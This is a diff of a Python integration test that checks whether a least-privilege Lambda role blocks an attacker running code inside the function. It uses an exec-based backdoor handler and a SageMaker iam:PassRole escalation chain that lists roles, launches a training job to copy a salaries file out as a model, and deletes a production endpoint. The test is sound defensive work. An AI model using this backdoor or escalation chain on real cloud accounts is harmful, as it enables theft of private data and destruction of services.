@@ -3,16 +3,25 @@
 Whoever runs code in a function has its role. The code below is run there, with the credentials that the function has.
 """
 
-import io
-import json
 import uuid
-import zipfile
 from collections.abc import Iterator
 from typing import Any
 
 import pytest
 from samcli.yamlhelper import yaml_parse
 
+from proofs.role_attack import (
+    ASK,
+    DELETE,
+    EVERYTHING,
+    FETCH_MODEL,
+    FIND_ROLES,
+    FULL_ACCESS,
+    MAKE_BUCKET,
+    READ_IT,
+    START_JOB,
+    Attacker,
+)
 from tests.contract.test_permissions import Resolver, statements
 from tests.integration.laptop import (
     ACCOUNT,
@@ -20,134 +29,33 @@ from tests.integration.laptop import (
     REGION,
     ROOT,
     Cloud,
-    await_function,
     endpoint_with,
     eventually,
     make_config,
 )
 
-# What matters here of AmazonSageMakerFullAccess (v29 of 2026-02-12). The whole policy has 50 statements.
-FULL_ACCESS: list[dict[str, Any]] = [
-    {
-        "Effect": "Allow",
-        "Action": ["sagemaker:*"],
-        "NotResource": [f"arn:aws:sagemaker:*:*:{kind}/*" for kind in ("domain", "user-profile", "app", "space")],
-    },
-    {
-        "Effect": "Allow",
-        "Action": ["iam:ListRoles", "ecr:BatchGetImage", "ecr:GetAuthorizationToken", "logs:CreateLogStream"],
-        "Resource": "*",
-    },
-    {
-        "Effect": "Allow",
-        "Action": ["s3:GetObject", "s3:PutObject", "s3:DeleteObject"],
-        "Resource": ["arn:aws:s3:::*SageMaker*", "arn:aws:s3:::*sagemaker*"],
-    },
-    {"Effect": "Allow", "Action": ["s3:CreateBucket", "s3:ListBucket", "s3:ListAllMyBuckets"], "Resource": "*"},
-    {
-        "Effect": "Allow",
-        "Action": "iam:PassRole",
-        "Resource": "arn:aws:iam::*:role/*",
-        "Condition": {"StringEquals": {"iam:PassedToService": "sagemaker.amazonaws.com"}},
-    },
-]
-EVERYTHING = {"Effect": "Allow", "Action": "*", "Resource": "*"}
 BUCKET, SECRET, LOOT = "bucket", "salaries/2026.csv", "sagemaker-loot"
-# A function that runs what its caller sends, in place of a hole in its code or in a package.
-HOLE = """
-import boto3
-
-def handler(event, context):
-    names = {"boto3": boto3, "event": event}
-    try:
-        exec(event["code"], names)
-    except Exception as error:
-        return {"refused": str(error)}
-    return {"done": names.get("result")}
-"""
-READ_IT = "result = boto3.client('s3').get_object(Bucket=event['bucket'], Key=event['key'])['Body'].read().decode()"
-FIND_ROLES = "result = [role['RoleName'] for role in boto3.client('iam').list_roles()['Roles']]"
-MAKE_BUCKET = """
-s3 = boto3.client("s3")
-s3.create_bucket(Bucket=event["bucket"])
-s3.put_object(Bucket=event["bucket"], Key="code/launch.py", Body=event["program"].encode())
-"""
 # The job reads the secret with the role that it is given, and its model is the secret.
 PROGRAM = """
 import os, shutil
 root = os.environ["OPT_ML"]
 shutil.copytree(f"{root}/input/data/secret", f"{root}/model", dirs_exist_ok=True)
 """
-START_JOB = """
-def channel(name, uri):
-    return {"ChannelName": name, "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": uri}}}
-
-boto3.client("sagemaker").create_training_job(
-    TrainingJobName=event["job"],
-    RoleArn=event["role"],
-    AlgorithmSpecification={"TrainingImage": event["image"], "TrainingInputMode": "File"},
-    InputDataConfig=[channel("code", event["code_uri"]), channel("secret", event["secret_uri"])],
-    OutputDataConfig={"S3OutputPath": event["output_uri"]},
-    ResourceConfig={"InstanceCount": 1, "InstanceType": "ml.m5.large", "VolumeSizeInGB": 1},
-    StoppingCondition={"MaxRuntimeInSeconds": 60},
-)
-"""
-FETCH_MODEL = """
-import io, tarfile
-body = boto3.client("s3").get_object(Bucket=event["bucket"], Key=event["key"])["Body"].read()
-with tarfile.open(fileobj=io.BytesIO(body)) as archive:
-    result = archive.extractfile("2026.csv").read().decode()
-"""
-DELETE = "boto3.client('sagemaker').delete_endpoint(EndpointName=event['endpoint'])"
-ASK = """
-answer = boto3.client("sagemaker-runtime").invoke_endpoint(
-    EndpointName=event["endpoint"], Body=b"photo", ContentType="image/jpeg"
-)
-result = answer["ResponseMetadata"]["HTTPStatusCode"]
-"""
 
 
-class Attacker:
-    """Somebody who runs code inside a function.
+def assert_refused(attacker: Attacker, answer: dict[str, Any], action: str, on: str = "") -> None:
+    """Compare a refusal with AWS's words. Services that are MiniStack's own leave out the resource.
 
     Args:
-        cloud: the cloud.
-        role: the function's role.
+        attacker: who tried it.
+        answer: what ``run`` returned.
+        action: the action that no policy of the function's role allows.
+        on: the resource's ARN, or an empty string for a service of MiniStack.
     """
-
-    def __init__(self, cloud: Cloud, role: str) -> None:
-        self.role = role.rpartition("/")[2]
-        self.function = f"classify-{uuid.uuid4().hex[:6]}"
-        self._functions = cloud.client("lambda")
-        code = io.BytesIO()
-        with zipfile.ZipFile(code, "w") as archive:
-            archive.writestr("hole.py", HOLE)
-        settings = {"Runtime": "python3.11", "Handler": "hole.handler", "Timeout": 60}
-        self._functions.create_function(
-            FunctionName=self.function, Role=role, Code={"ZipFile": code.getvalue()}, **settings
-        )
-        await_function(self._functions, self.function)
-
-    def run(self, code: str, **event: str) -> dict[str, Any]:
-        """Run code in the function and return ``{"done": result}`` or ``{"refused": words}``."""
-        answer = self._functions.invoke(
-            FunctionName=self.function, Payload=json.dumps({"code": code, **event}).encode()
-        )
-        document: dict[str, Any] = json.loads(answer["Payload"].read())
-        return document
-
-    def assert_refused(self, answer: dict[str, Any], action: str, on: str = "") -> None:
-        """Compare a refusal with AWS's words. Services that are MiniStack's own leave out the resource.
-
-        Args:
-            answer: what ``run`` returned.
-            action: the action that no policy of the function's role allows.
-            on: the resource's ARN, or an empty string for a service of MiniStack.
-        """
-        user = f"arn:aws:sts::{ACCOUNT}:assumed-role/{self.role}/{self.function}"
-        resource = f" on resource: {on}" if on else ""
-        why = f"because no identity-based policy allows the {action} action"
-        assert f"User: {user} is not authorized to perform: {action}{resource} {why}" in answer["refused"]
+    user = f"arn:aws:sts::{ACCOUNT}:assumed-role/{attacker.role}/{attacker.function}"
+    resource = f" on resource: {on}" if on else ""
+    why = f"because no identity-based policy allows the {action} action"
+    assert f"User: {user} is not authorized to perform: {action}{resource} {why}" in answer["refused"]
 
 
 @pytest.fixture(scope="module")
@@ -178,7 +86,9 @@ def job_of(name: str) -> dict[str, str]:
 def test_role_of_least_rights_refuses_the_attack_in_awss_words(account: Cloud) -> None:
     template = yaml_parse((ROOT / "template.yaml").read_text())
     assert Resolver(template).ref("Bucket") == BUCKET
-    attacker = Attacker(account, account.make_role("classify-least", *statements(template, "ClassifyFunctionRole")))
+    attacker = Attacker(
+        account.client, account.make_role("classify-least", *statements(template, "ClassifyFunctionRole"))
+    )
     job = job_of(f"theft-{uuid.uuid4().hex[:6]}")
     arn = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}"
     attempts = [
@@ -189,26 +99,26 @@ def test_role_of_least_rights_refuses_the_attack_in_awss_words(account: Cloud) -
         (DELETE, {"endpoint": "kennel"}, "sagemaker:DeleteEndpoint", f"{arn}:endpoint/kennel"),
     ]
     for code, event, action, on in attempts:
-        attacker.assert_refused(attacker.run(code, **event), action, on)
+        assert_refused(attacker, attacker.run(code, **event), action, on)
     assert not [each for each in account.client("s3").list_buckets()["Buckets"] if each["Name"] == f"{LOOT}-2"]
     assert account.client("sagemaker").list_endpoints(NameContains="kennel")["Endpoints"]
     # It still does what it is for, and no more than this remains to the attacker.
     for key in ("uploads/dog.jpg", "dataset/dog.jpg"):
         account.client("s3").put_object(Bucket=BUCKET, Key=key, Body=b"a photo")
     assert attacker.run(READ_IT, bucket=BUCKET, key="uploads/dog.jpg") == {"done": "a photo"}
-    attacker.assert_refused(attacker.run(READ_IT, bucket=BUCKET, key="dataset/dog.jpg"), "s3:GetObject")
-    attacker.assert_refused(attacker.run(READ_IT, bucket="kennel", key="dog.jpg"), "s3:GetObject")
+    assert_refused(attacker, attacker.run(READ_IT, bucket=BUCKET, key="dataset/dog.jpg"), "s3:GetObject")
+    assert_refused(attacker, attacker.run(READ_IT, bucket="kennel", key="dog.jpg"), "s3:GetObject")
     assert attacker.run(ASK, endpoint="kennel") == {"done": 200}
-    attacker.assert_refused(
-        attacker.run(ASK, endpoint="another"), "sagemaker:InvokeEndpoint", f"{arn}:endpoint/another"
+    assert_refused(
+        attacker, attacker.run(ASK, endpoint="another"), "sagemaker:InvokeEndpoint", f"{arn}:endpoint/another"
     )
 
 
 def test_role_with_full_access_reads_a_secret_through_another_role_and_deletes_production(account: Cloud) -> None:
-    attacker = Attacker(account, account.make_role("classify-full", *FULL_ACCESS))
+    attacker = Attacker(account.client, account.make_role("classify-full", *FULL_ACCESS))
     assert attacker.run(ASK, endpoint="kennel") == {"done": 200}
     # The policy itself does not allow to read that bucket …
-    attacker.assert_refused(attacker.run(READ_IT, bucket=BUCKET, key=SECRET), "s3:GetObject")
+    assert_refused(attacker, attacker.run(READ_IT, bucket=BUCKET, key=SECRET), "s3:GetObject")
     # … but it passes any role to a job, and an old one may read everything.
     assert "AmazonSageMaker-ExecutionRole-2023" in attacker.run(FIND_ROLES)["done"]
     assert attacker.run(MAKE_BUCKET, bucket=LOOT, program=PROGRAM) == {"done": None}
